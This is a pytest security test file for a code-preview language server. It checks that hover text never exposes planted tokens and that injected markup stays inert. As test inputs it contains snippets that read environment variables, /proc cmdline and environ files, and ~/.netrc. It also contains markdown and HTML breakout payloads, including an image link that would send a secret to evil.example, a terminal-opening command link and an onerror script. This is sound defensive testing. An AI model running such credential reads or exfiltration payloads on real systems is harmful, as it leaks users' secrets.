"""What a hover shows: no secret, and nothing the editor would act on.

This module's server starts with a token in its environment and a home folder
holding a ``.netrc``; a bystander process carries another token in its command
line. No hover may show any of them, whatever the preview reads. Values, keys,
type names, error messages and forged result lines also try to break out of
their code spans: the hover must stay inert.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
import pytest_lsp
from pytest_lsp import ClientServerConfig, LanguageClient

from tests.lsp_support import SERVER
from tests.sandbox.hostile import assert_healthy, assert_inert, forge, hostile_session, timed_hover

TOKEN = f"tp-secret-{uuid.uuid4().hex}"
HOME = Path(tempfile.mkdtemp(prefix="tp-home-"))
(HOME / ".netrc").write_text(f"machine example.com login me password {TOKEN}-netrc\n")
ENV = {
    **os.environ,
    "HOME": str(HOME),
    "GITHUB_TOKEN": f"{TOKEN}-github",
    "TORCHPEEK_API_KEY": f"{TOKEN}-prefixed",
    "DATABASE_URL": f"postgres://me:{TOKEN}-db@host/db",
}


@pytest_lsp.fixture(
    config=ClientServerConfig(server_command=SERVER, server_env=ENV), scope="module"
)
async def client(lsp_client: LanguageClient):
    async for _ in hostile_session(lsp_client):
        yield


@pytest.fixture(scope="module")
def bystander() -> Iterator[int]:
    """A process whose command line holds a secret."""
    process = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(300)", f"--password={TOKEN}-argv"]
    )
    try:
        yield process.pid
    finally:
        process.kill()
        process.wait()


def assert_no_secret(text: str) -> None:
    assert TOKEN not in text, f"a secret reached the hover:\n{text[:3000]}"


READS = {
    "os.environ": "import os\nr = dict(os.environ)\n",
    "environ values": "import os\nr = ' '.join(os.environ.values())\n",
    "own environ file": "r = open('/proc/self/environ', 'rb').read()\n",
    "parent environ": "import os\nr = open(f'/proc/{os.getppid()}/environ', 'rb').read()\n",
    "netrc": "import os\nr = open(os.path.expanduser('~/.netrc')).read()\n",
    "netrc by path": f"r = open({str(HOME / '.netrc')!r}).read()\n",
    "home listing": f"import os\nr = os.listdir({str(HOME)!r})\n",
    "parent cmdline": "import os\nr = open(f'/proc/{os.getppid()}/cmdline', 'rb').read()\n",
    "every cmdline": "import os\nr = []\nfor p in os.listdir('/proc'):\n"
    "    try:\n        r.append(open(f'/proc/{p}/cmdline', 'rb').read())\n"
    "    except OSError:\n        pass\nr = b' '.join(r)\n",
    "process list": "import os\nr = [p for p in os.listdir('/proc') if p.isdigit()]\n",
}


@pytest.mark.parametrize("how", list(READS))
async def test_no_secret_reaches_a_hover(client: LanguageClient, bystander: int, how: str) -> None:
    text, _ = await timed_hover(client, READS[how], "r")
    assert_no_secret(text)
    if how == "process list":
        assert f"'{bystander}'" not in text, text


async def test_bystander_cmdline_by_pid(client: LanguageClient, bystander: int) -> None:
    for path in (
        f"/proc/{bystander}/cmdline",
        f"/proc/{bystander}/environ",
        f"/proc/{bystander}/maps",
    ):
        text, _ = await timed_hover(client, f"r = open({path!r}, 'rb').read()\n", "r")
        assert_no_secret(text)
        assert "PermissionError" in text or "Permission denied" in text, text


async def test_host_sockets_are_not_listed(client: LanguageClient) -> None:
    with tempfile.TemporaryDirectory(prefix="tp-") as name:
        path = str(Path(name) / f"{TOKEN[:20]}.sock")
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(path)
            listener.listen(1)
            for source in ("/proc/net/unix", "/proc/self/net/unix", "/proc/1/net/unix"):
                text, _ = await timed_hover(client, f"r = open({source!r}).read()\n", "r")
                assert TOKEN[:20] not in text, text
    await assert_healthy(client)


async def test_the_worker_environment_is_an_allowlist(client: LanguageClient) -> None:
    text, _ = await timed_hover(client, "import os\nr = sorted(os.environ)\n", "r")
    assert "GITHUB_TOKEN" not in text and "DATABASE_URL" not in text and "API_KEY" not in text
    assert "PATH" in text, text


LINK = "[click](command:workbench.action.terminal.new)"
IMAGE = "![x](https://evil.example/?s=SECRET)"
BREAKOUTS = {
    "value backticks": f"shown = '`` {LINK} ``'\n",
    "value fences": f"shown = '````\\n# title\\n{IMAGE}\\n<img src=x onerror=alert(1)>'\n",
    "value html": "shown = '<a href=\"command:x\">go</a> https://evil.example www.evil.example'\n",
    "dict key": f"shown = {{'` {LINK} `': 1, '{IMAGE}': 2}}\n",
    "type name": f"shown = type('T` {LINK} `', (), {{}})()\n",
    "error message": f"raise ValueError('`` {IMAGE} `` {LINK}')\nshown = 1\n",
    "error type": f"E = type('E` {LINK}', (Exception,), {{}})\nraise E('x')\nshown = 1\n",
    "bidi and controls": "shown = 'safe\\u202e\\u2066evil\\u200f\\x1b[31m\\x07\\u2028# h'\n",
    "list items": f"shown = ['` {LINK} `', '\\n- {IMAGE}', '| a | b |']\n",
}


@pytest.mark.parametrize("case", list(BREAKOUTS))
async def test_preview_text_cannot_break_out(client: LanguageClient, case: str) -> None:
    text, _ = await timed_hover(client, BREAKOUTS[case], "shown")
    assert_inert(text)


def _line(result: dict[str, object]) -> str:
    return repr((json.dumps(result) + "\n").encode())


FORGED = {
    "tensor fields": {
        "ok": True,
        "value": {"kind": "Tensor", "size": f"`` {LINK} ``", "dtype": IMAGE, "device": "\u202e"},
        "mode": "meta",
    },
    "layer table": {
        "ok": True,
        "value": {"kind": "Module", "class": LINK, "params": "many", "device": "cpu"},
        "layers": [{"name": "|", "layer": f"` | {IMAGE}", "output": "`` `` <b>"}],
    },
    "provenance": {
        "ok": True,
        "value": {"kind": "int", "value": "1"},
        "reached": {"entry": f"` {LINK}", "via_line": "x"},
        "notes": [IMAGE],
    },
    "error fields": {
        "ok": False,
        "error": {"type": f"**{LINK}", "summary": IMAGE, "line": "3", "layer": {"layer": LINK}},
    },
}


@pytest.mark.parametrize("case", list(FORGED))
async def test_forged_result_fields_are_inert(client: LanguageClient, case: str) -> None:
    text, _ = await timed_hover(client, forge(_line(FORGED[case])), "n")
    assert_inert(text)
    await assert_healthy(client)
